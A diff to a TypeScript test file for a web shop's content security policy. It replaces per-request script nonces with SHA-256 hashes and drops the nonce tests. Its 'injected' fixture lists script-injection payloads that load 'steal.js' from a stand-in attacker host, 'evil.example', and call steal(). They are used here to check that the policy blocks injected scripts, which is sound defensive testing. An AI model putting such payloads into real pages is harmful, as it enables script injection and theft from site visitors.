@@ -6,7 +6,7 @@ import { insertProduct } from '#test/factories.ts'
 import { createHarness, type Harness } from '#test/harness.ts'
 import type { Env } from '../dependencies.ts'
 import { createRenderCache } from '../page-cache/render-cache.ts'
-import { createContentSecurityPolicy, replaceNonceByHashes } from './content-security-policy.ts'
+import { createContentSecurityPolicy } from './content-security-policy.ts'
 import { createPageHandler } from './page-handler.ts'
 import { createBuiltPages, type PageSource } from './page-source.ts'
 
@@ -16,7 +16,7 @@ const injected = [
   '<script type="module" async="">import "//evil.example/steal.js"</script>',
   '<link rel="modulepreload" href="//evil.example/steal.js"/>',
   '<script nonce="">steal(2)</script>',
-  `<script nonce="${'A'.repeat(22)}">steal(3)</script>`,
+  '<script>steal(3)//</script>',
 ]
 const marker = 'corduroy-coat-marker'
 
@@ -83,10 +83,9 @@ function listInlineScripts({ html, policy }: Page): { code: string; isAllowed: b
   const sources = getSources(policy, 'script-src')
   return Array.from(html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g))
     .filter(([, attributes = '']) => !/ src=|ld\+json/.test(attributes))
-    .map(([, attributes = '', code = '']) => {
-      const nonce = / nonce="([^"]+)"/.exec(attributes)?.[1]
+    .map(([, , code = '']) => {
       const hash = createHash('sha256').update(code).digest('base64')
-      return { code, isAllowed: sources.includes(`'nonce-${nonce}'`) || sources.includes(`'sha256-${hash}'`) }
+      return { code, isAllowed: sources.includes(`'sha256-${hash}'`) }
     })
 }
 
@@ -113,31 +112,19 @@ describe.each([
   )
 })
 
-test('an uncached page has a new nonce each time, a cached one has none', async () => {
-  const [first, second] = [await getUncached('/cart'), await getUncached('/cart')]
-  const nonces = [first, second].map(({ policy }) => /'nonce-([\w-]{22})'/.exec(policy)?.[1])
-  expect(new Set(nonces).size).toBe(2)
-  const cached = await getCached('/shop')
-  expect(cached.policy).not.toContain('nonce-')
-  expect(cached.html.replaceAll(injected.join(''), '')).not.toContain('nonce')
-})
+const hashOfFirst = `'sha256-${createHash('sha256').update('first()').digest('base64')}'`
 
 test.each([
-  [undefined, "script-src 'self' 'nonce-abc'; connect-src 'self'"],
+  [undefined, `script-src 'self' ${hashOfFirst}; connect-src 'self'`],
   [
     'https://stats.example',
-    "script-src 'self' 'nonce-abc' https://stats.example; connect-src 'self' https://stats.example",
+    `script-src 'self' ${hashOfFirst} https://stats.example; connect-src 'self' https://stats.example`,
   ],
 ])('allows the shop alone, inline styles and photos of other hosts, and the analytics script %s', (origin, scripts) => {
-  expect(createContentSecurityPolicy({ nonce: 'abc', analyticsOrigin: origin })).toBe(
+  expect(createContentSecurityPolicy({ inlineScripts: ['first()'], analyticsOrigin: origin })).toBe(
     `default-src 'self'; ${scripts}; style-src 'self' 'unsafe-inline'; img-src 'self' data: blob: https:; ` +
       "object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'",
   )
-})
-
-test('leaves a page without a nonce as it is', () => {
-  const page = { policy: "script-src 'self'", html: '<script nonce="undefined">first()</script>' }
-  expect(replaceNonceByHashes(page.policy, page.html)).toEqual(page)
 })
 
 describe('with an analytics script', () => {
